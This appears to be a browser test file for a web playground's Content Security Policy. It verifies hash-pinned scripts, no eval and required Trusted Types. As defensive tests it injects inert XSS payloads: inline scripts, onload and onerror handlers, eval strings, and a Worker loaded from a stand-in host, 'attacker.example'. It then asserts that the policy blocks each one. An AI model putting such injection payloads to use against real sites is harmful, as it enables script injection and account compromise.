// The deployed page's own content policy (scripts/site-policy.mjs, trunk's post_build hook): the
// built dist/index.html carries a CSP whose only inline script is trunk's loader, pinned by hash,
// with no 'unsafe-eval' and Trusted Types required. In Chromium an inline script injected into
// the served page does not run, nor do eval, string-built functions, inline handlers, HTML that
// carries script or a foreign worker, while the playground still runs a task and draws its markdown
// through the one HTML policy, with no violation reported by the app itself.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import crypto from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { usePlaygroundSuite, useMock } from './support/playground.mjs';
import { scriptedOpenAi } from './support/scripted_openai.mjs';

const repo = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../..');
const dist = process.env.TABLOOP_DIST ?? path.join(repo, 'dist');
const suite = usePlaygroundSuite();

function pagePolicy(html) {
  const meta = html.match(/<meta http-equiv="Content-Security-Policy" content="([^"]*)">/);
  assert.ok(meta, 'dist/index.html carries a Content-Security-Policy meta');
  return Object.fromEntries(meta[1].split(';').map((d) => d.trim().split(/\s+/)).map(([k, ...v]) => [k, v]));
}

test('dist/index.html pins every inline script by hash and allows no eval', () => {
  const html = fs.readFileSync(path.join(dist, 'index.html'), 'utf8');
  const csp = pagePolicy(html);
  const inline = [...html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/g)].filter(([, attrs]) => !/\bsrc=/.test(attrs));
  assert.ok(inline.length >= 1, "trunk's loader is inline");
  for (const [, , body] of inline) {
    const hash = crypto.createHash('sha256').update(body).digest('base64');
    assert.ok(csp['script-src'].includes(`'sha256-${hash}'`), 'the inline loader is pinned by its hash');
  }
  assert.ok(!csp['script-src'].includes("'unsafe-eval'"));
  assert.ok(!csp['script-src'].includes("'unsafe-inline'"));
  assert.ok(csp['script-src'].includes("'wasm-unsafe-eval'"));
  assert.deepEqual(csp['object-src'], ["'none'"]);
  assert.deepEqual(csp['base-uri'], ["'none'"]);
  assert.deepEqual(csp['require-trusted-types-for'], ["'script'"]);
  assert.deepEqual(csp['trusted-types'], ['default', 'tabloop-markdown']);
  // Subresource Integrity on every script the page loads by URL and on what trunk preloads.
  for (const [tag] of html.matchAll(/<script\b[^>]*\bsrc=[^>]*>/g)) assert.match(tag, /integrity="sha384-/);
  for (const [tag] of html.matchAll(/<link\b[^>]*rel="(?:modulepreload|preload|stylesheet)"[^>]*>/g)) {
    assert.match(tag, /integrity="sha384-/, tag);
  }
});

test('an injected inline script does not run, and the playground still runs a task under the policy', async () => {
  const mock = await scriptedOpenAi();
  const context = await suite.browser.newContext();
  try {
    const page = await context.newPage();
    const errors = [];
    page.on('pageerror', (e) => errors.push(e.message));
    // What a stored XSS in the served HTML would look like: an inline script and an inline
    // handler, in a copy of the site whose other files are the built ones.
    const injected = path.join(suite.site.root, 'injected');
    fs.mkdirSync(injected, { recursive: true });
    for (const entry of fs.readdirSync(dist)) {
      if (entry !== 'index.html' && !fs.existsSync(path.join(injected, entry))) {
        fs.symlinkSync(path.join(dist, entry), path.join(injected, entry));
      }
    }
    const html = fs.readFileSync(path.join(dist, 'index.html'), 'utf8').replace(
      '<body>',
      '<body><script>window.injected = "inline"</script><img src="data:," onload="window.injected = \'handler\'" alt="">',
    );
    assert.ok(html.includes('window.injected = "inline"'));
    fs.writeFileSync(path.join(injected, 'index.html'), html);
    await page.addInitScript(() => {
      window.__violations = [];
      document.addEventListener('securitypolicyviolation', (e) => {
        window.__violations.push({ directive: e.effectiveDirective, blocked: e.blockedURI, sample: e.sample });
      });
    });
    await page.goto(`${suite.site.url}/injected/`);
    await page.waitForSelector('h1');
    assert.equal(await page.evaluate(() => window.injected), undefined, 'the injected script and handler did not run');
    const atLoad = await page.evaluate(() => window.__violations.map((v) => v.directive));
    assert.ok(atLoad.length >= 2 && atLoad.every((d) => d.startsWith('script-src')), `the two injections were refused: ${atLoad}`);

    // The playground works under the policy: a task runs and its markdown is drawn.
    mock.script.push({ text: 'Here is **bold** text and `code`, with <b onclick="window.injected=1">raw</b> markup.' });
    await useMock(page, mock);
    await page.fill('[data-testid=task]', 'Say something in markdown');
    await page.click('[data-testid=run]');
    await page.waitForSelector('[data-kind=run_finished]', { timeout: 30_000 });
    await page.waitForSelector('.md strong');
    assert.equal(await page.textContent('.md strong'), 'bold');
    assert.equal(await page.locator('.md code').count() >= 1, true);
    assert.equal(await page.locator('.md b').count(), 0, "the model's markup stays text");
    const appViolations = await page.evaluate(() => window.__violations.slice(2));
    assert.deepEqual(appViolations, [], 'the app itself triggers no violation');
    assert.deepEqual(errors, []);

    // Script sinks refuse strings in the running page.
    const attempts = await page.evaluate(async () => {
      const tryIt = (f) => { try { f(); return 'ran'; } catch (e) { return e.name; } };
      const out = {};
      // Later, from a task of the page's own: DevTools' evaluation itself may be exempt from CSP.
      const later = (f) => new Promise((resolve) => setTimeout(() => resolve(tryIt(f)), 0));
      out.eval = await later(() => eval('window.injected = "eval"'));
      out.newFunction = await later(() => new Function('window.injected = "function"')());
      out.innerHtml = tryIt(() => { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.injected=1">'); });
      out.scriptText = tryIt(() => {
        const s = document.createElement('script');
        s.textContent = 'window.injected = "script"';
        document.body.append(s);
      });
      out.foreignWorker = tryIt(() => new Worker('https://attacker.example/w.js'));
      out.timerString = tryIt(() => setTimeout('window.injected = "timer"', 0));
      const button = document.createElement('button');
      document.body.append(button);
      out.handlerAttribute = tryIt(() => button.setAttribute('onclick', 'window.injected = "attribute"'));
      button.click();
      out.benignMarkup = tryIt(() => { document.body.insertAdjacentHTML('beforeend', '<b>inert</b>'); });
      await new Promise((r) => setTimeout(r, 100));
      out.injected = window.injected ?? null;
      return out;
    });
    assert.deepEqual(attempts, {
      eval: 'EvalError',
      newFunction: 'EvalError',
      innerHtml: 'TypeError',
      scriptText: 'TypeError',
      foreignWorker: 'TypeError',
      timerString: 'TypeError',
      handlerAttribute: 'TypeError',
      benignMarkup: 'ran', // inert markup passes the default policy (Leptos's templates need it)
      injected: null,
    });
  } finally {
    await context.close();
    await mock.close();
  }
});
